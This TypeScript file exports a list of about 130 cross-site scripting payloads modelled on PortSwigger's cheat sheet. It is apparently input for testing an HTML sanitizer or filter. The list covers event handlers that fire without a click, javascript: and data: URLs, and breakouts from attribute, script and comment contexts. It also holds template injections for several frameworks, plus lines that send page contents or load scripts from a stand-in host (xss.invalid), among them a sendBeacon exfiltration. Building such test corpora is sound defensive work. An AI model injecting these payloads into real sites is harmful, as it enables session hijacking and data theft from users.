import { lines } from './lines.ts';

/** After PortSwigger's cheat sheet: handlers that need no click, protocols, frameworks, contexts. */
export const portswigger: readonly string[] = lines(String.raw`
<xss onafterscriptexecute=alert(1)><script>1</script>
<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="alert(1)"></xss>
<style>@keyframes x{from{left:0}to{left:100px}}</style><xss style="animation:x 1s" onanimationend="alert(1)"></xss>
<style>@keyframes slidein{}</style><xss style="animation-duration:1s;animation-name:slidein;animation-iteration-count:2" onanimationiteration="alert(1)"></xss>
<body onbeforeprint=alert(1)>
<body onbeforeunload=navigator.sendBeacon('//xss.invalid/',document.body.innerHTML)>
<body onhashchange="alert(1)">
<body onmessage=alert(1)>
<body onpageshow=alert(1)>
<body onpopstate=alert(1)>
<body onresize=alert(1)>
<body onunhandledrejection=alert(1)><script>fetch('//xss.invalid')</script>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<audio oncanplay=alert(1)><source src="validaudio.wav" type="audio/wav"></audio>
<video oncanplaythrough=alert(1)><source src="validvideo.mp4" type="video/mp4"></video>
<video controls oncuechange=alert(1)><source src="validvideo.mp4"><track default kind=subtitles src="http://xss.invalid/x.vtt"></video>
<audio controls ondurationchange=alert(1)><source src=validaudio.mp3></audio>
<audio controls autoplay onended=alert(1)><source src="validaudio.wav"></audio>
<a id=x tabindex=1 onfocus=alert(1) autofocus></a>
<a id=x tabindex=1 onfocusin=alert(1)></a>
<div tabindex=1 onfocusout=alert(1) autofocus>x</div>
<img src=validimage.png onload=alert(1)>
<img srcset="http://xss.invalid/x.png 1x" sizes="1px">
<picture><source srcset="http://xss.invalid/x.png"><img src=x onerror=alert(1)></picture>
<audio onloadeddata=alert(1)><source src="validaudio.wav"></audio>
<audio onloadstart=alert(1)><source></audio>
<video onloadedmetadata=alert(1)><source src=x></video>
<marquee width=1 loop=1 onfinish=alert(1)>XSS</marquee>
<marquee onbounce=alert(1) behavior=alternate width=1>x</marquee>
<audio autoplay onplay=alert(1)><source src="validaudio.wav"></audio>
<audio autoplay onplaying=alert(1)><source src="validaudio.wav"></audio>
<video controls onprogress=alert(1)><source src=x></video>
<xss onscrollend=alert(1) style="display:block;overflow:auto;width:500px;height:100px">x</xss>
<xss onsecuritypolicyviolation=alert(1)>x</xss>
<input type=search onsearch=alert(1) autofocus>
<video ontimeupdate=alert(1) autoplay><source src=x></video>
<style>:target{transform:rotate(180deg)}</style><x id=x style="transition:transform 1s" ontransitionend=alert(1)>
<x id=x style="transition:outline 1s" ontransitionrun=alert(1) tabindex=1>
<img src=x onwebkitanimationend=alert(1)>
<div onwheel=alert(1)>x</div>
<input oninvalid=alert(1) required autofocus>
<div oncontentvisibilityautostatechange=alert(1) style="display:block;content-visibility:auto">x</div>
<video onenterpictureinpicture=alert(1)></video>
<body ongesturestart=alert(1)>
<iframe src="javascript:alert(1)">
<iframe src="jav	ascript:alert(1)">
<object data="javascript:alert(1)">
<embed src="javascript:alert(1)">
<form><button formaction=javascript:alert(1)>XSS
<form><input type=submit formaction=javascript:alert(1) value=XSS>
<a href="javascript://%0aalert(1)">XSS</a>
<a href="javascript:'<script>alert(1)</script>'">XSS</a>
<a href="javascript&colon;alert(1)">XSS</a>
<a href=javascript:%61%6c%65%72%74(1)>XSS</a>
<iframe src="data:text/html,<img src=1 onerror=alert(document.domain)>">
<script src="data:text/javascript,alert(1)"></script>
<script type=module src="http://xss.invalid/x.mjs"></script>
<script nonce=x>alert(1)</script>
<script>import('data:text/javascript,alert(1)')</script>
<base href="http://xss.invalid/"><script src=x.js></script>
<base target="<script>alert(1)</script>"><a href="//xss.invalid">x</a>
<meta http-equiv="Content-Security-Policy" content="script-src 'none'">
<meta name=referrer content=unsafe-url><img src="//xss.invalid/log">
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a>
<svg><script href="data:text/javascript,alert(1)" />
<script>alert(1)</script
<img src="//xss.invalid/?
<a href='//xss.invalid/?
<table background="//xss.invalid/?
<link rel=stylesheet href="//xss.invalid/?
<meta http-equiv="refresh" content='0;url=//xss.invalid/?
<button form=x formaction="//xss.invalid">Click</button>
<form id=x action=//xss.invalid><textarea name=x>
"onfocus="alert(1)" autofocus="
"onmouseover="alert(1)
' onmouseover='alert(1)
" style="animation-name:x" onanimationstart="alert(1)
"><script>alert(1)</script>
'><script>alert(1)</script>
"><svg onload=alert(1)>
'"><img src=x onerror=alert(1)>
--><script>alert(1)</script><!--
]]><script>alert(1)</script>
*/alert(1)/*
';alert(1)//
"-alert(1)-"
'-alert(1)-'
\'-alert(1)//
</style><script>alert(1)</script>
</textarea><img src=x onerror=alert(1)>
</template><img src=x onerror=alert(1)>
</bdi></p></div><img src=x onerror=alert(1)>
</slot></section><script>alert(1)</script>
{{constructor.constructor('alert(1)')()}}
{{$on.constructor('alert(1)')()}}
{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'alert(1)')()}}
{{_c.constructor('alert(1)')()}}
<x v-html=_c.constructor('alert(1)')()>
<x @click='_b.constructor('alert(1)')()'>click</x>
<div v-pre><x :on-click=alert(1)></x></div>
<input ng-focus=$event.view.alert(1) autofocus>
<div ng-app ng-csp><div ng-click=$event.view.alert(1)>x</div></div>
<div data-bind="html: alert(1)"></div>
<div data-ng-init="constructor.constructor('alert(1)')()"></div>
<div x-data x-init="alert(1)"></div>
<div hx-on:load="alert(1)" hx-get="//xss.invalid"></div>
<x-foo .innerHTML="<img src=x onerror=alert(1)>"></x-foo>
<div ?hidden="x" @click="alert(1)" .onclick="alert(1)">x</div>
<!--lit-part--><img src=x onerror=alert(1)><!--/lit-part-->
<!--?lit$123456789$--><img src=x onerror=alert(1)>
{{lit-1}}<img src=x onerror=alert(1)>
<%= 7*7 %><script>alert(1)</script>
#{7*7}
[[${'$'}{7*7}]]
onerror=alert;throw 1
{onerror=alert}throw 1
throw onerror=alert,1
location='javascript:alert\x281\x29'
'alert\x281\x29'instanceof{[Symbol.hasInstance]:eval}
window.name=alert;top['al'+'ert'](1)
[].sort.call(null,alert)
import('//xss.invalid/x.js')
//xss.invalid/x.js
`);
